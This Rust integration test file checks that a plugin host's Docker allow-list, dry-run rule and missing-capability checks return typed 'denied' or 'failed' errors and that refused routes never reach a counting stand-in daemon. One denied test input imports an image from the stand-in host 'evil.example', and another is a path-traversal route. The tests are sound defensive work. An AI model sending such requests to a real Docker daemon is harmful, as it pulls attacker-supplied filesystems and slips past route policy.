//! A capability's refusal travels typed: decided by the host (the docker allow-list, the
//! dry-run rule, a socket that does not answer), received by the plugin as the WIT's
//! `capability-error` variant, and reported as the node's `ErrorKind` of the same kind —
//! nothing on the way reads a message to find the kind.
//!
//! Two plugins receive it: `test-noisy` through its raw wit-bindgen bindings (it passes
//! the variant on by kind), and `docker-image` through the SDK (`From<CapabilityError>`).
//! The daemon is a stand-in on a Unix socket that counts connections: a refusal must
//! never reach it.

mod common;

use std::io::{Read, Write};
use std::os::unix::net::UnixListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use common::{host, load};
use hostplug_host::{DockerRoute, ErrorKind, Grants, Host, HostConfig, Invocation, InvokeError};
use serde_json::json;

/// A stand-in Docker daemon that counts the connections it gets and answers each
/// `200 OK` with `[]`.
struct CountingDaemon {
    _dir: tempfile::TempDir,
    socket: PathBuf,
    connections: Arc<AtomicUsize>,
}

impl CountingDaemon {
    fn start() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let socket = dir.path().join("docker.sock");
        let listener = UnixListener::bind(&socket).expect("bind");
        let connections = Arc::new(AtomicUsize::new(0));
        let seen = connections.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                seen.fetch_add(1, Ordering::SeqCst);
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n[]");
            }
        });
        Self {
            _dir: dir,
            socket,
            connections,
        }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// `test-noisy`'s `docker` method: one docker call, the import's error passed on by kind.
fn noisy_docker(
    grants: &Grants,
    method: &str,
    path: &str,
    dry_run: bool,
) -> Result<hostplug_host::InvokeOutcome, InvokeError> {
    let plugin = load(host(), "test-noisy");
    let mut inv = Invocation::new(
        "docker",
        json!({"method": method, "path": path}).to_string(),
    );
    inv.dry_run = dry_run;
    plugin.invoke(&inv, grants)
}

#[test]
fn a_docker_route_outside_the_allow_list_arrives_as_denied() {
    let daemon = CountingDaemon::start();
    let grants = Grants::none().with_docker(&daemon.socket);
    for (method, path) in [
        ("POST", "/containers/create"),
        ("GET", "/containers/json"),
        (
            "POST",
            "/images/create?fromSrc=http://evil.example/rootfs.tar",
        ),
        ("GET", "/images/../containers/json"),
    ] {
        let e = noisy_docker(&grants, method, path, false).expect_err("outside the allow-list");
        assert_eq!(e.kind, ErrorKind::Denied, "{method} {path}: {e}");
        assert!(
            e.message.contains("docker policy") || e.message.contains("path "),
            "{method} {path}: {e}"
        );
    }
    assert_eq!(
        daemon.connections(),
        0,
        "a refused route reached the daemon"
    );

    // The refusal was the policy's: an allowed route does reach the daemon.
    let out = noisy_docker(&grants, "GET", "/_ping", false).expect("an allowed route");
    assert_eq!(out.output["status"], 200, "{}", out.output);
    assert_eq!(daemon.connections(), 1);
}

/// The other kinds keep theirs too: a mutation in a dry run is `denied` (never sent), no
/// capability at all is `denied`, a socket nobody listens on is `failed`.
#[test]
fn dry_runs_missing_capabilities_and_dead_sockets_keep_their_kinds() {
    let daemon = CountingDaemon::start();
    let grants = Grants::none().with_docker(&daemon.socket);
    let e = noisy_docker(&grants, "POST", "/images/prune", true).expect_err("dry run");
    assert_eq!(e.kind, ErrorKind::Denied, "{e}");
    assert!(e.message.contains("dry run"), "{e}");
    assert_eq!(daemon.connections(), 0);

    let e = noisy_docker(&Grants::none(), "GET", "/_ping", false).expect_err("no capability");
    assert_eq!(e.kind, ErrorKind::Denied, "{e}");
    assert!(e.message.contains("no docker capability"), "{e}");

    let dead = tempfile::tempdir().expect("tempdir");
    let grants = Grants::none().with_docker(dead.path().join("nobody.sock"));
    let e = noisy_docker(&grants, "GET", "/_ping", false).expect_err("no daemon");
    assert_eq!(e.kind, ErrorKind::Failed, "{e}");
    assert!(e.message.contains("docker socket"), "{e}");
}

/// Through the SDK: docker-image's `list` under a host whose policy allows only
/// `/_ping` is refused by the host; the SDK maps the typed `denied` to its own `Denied`
/// and the node's result is `denied`, naming the route.
#[test]
fn the_sdk_passes_a_refused_route_on_as_denied() {
    let daemon = CountingDaemon::start();
    let mut config = HostConfig::default();
    config.docker.allow = vec![DockerRoute::new("GET", "/_ping")];
    let strict = Host::new(config).expect("host");
    let plugin = load(&strict, "docker-image");
    let e = plugin
        .invoke(
            &Invocation::new("list", "{}"),
            &Grants::none().with_docker(&daemon.socket),
        )
        .expect_err("GET /images/json is not allowed");
    assert_eq!(e.kind, ErrorKind::Denied, "{e}");
    assert!(
        e.message
            .contains("docker: GET /images/json is not allowed"),
        "{e}"
    );
    assert_eq!(
        daemon.connections(),
        0,
        "a refused route reached the daemon"
    );
}
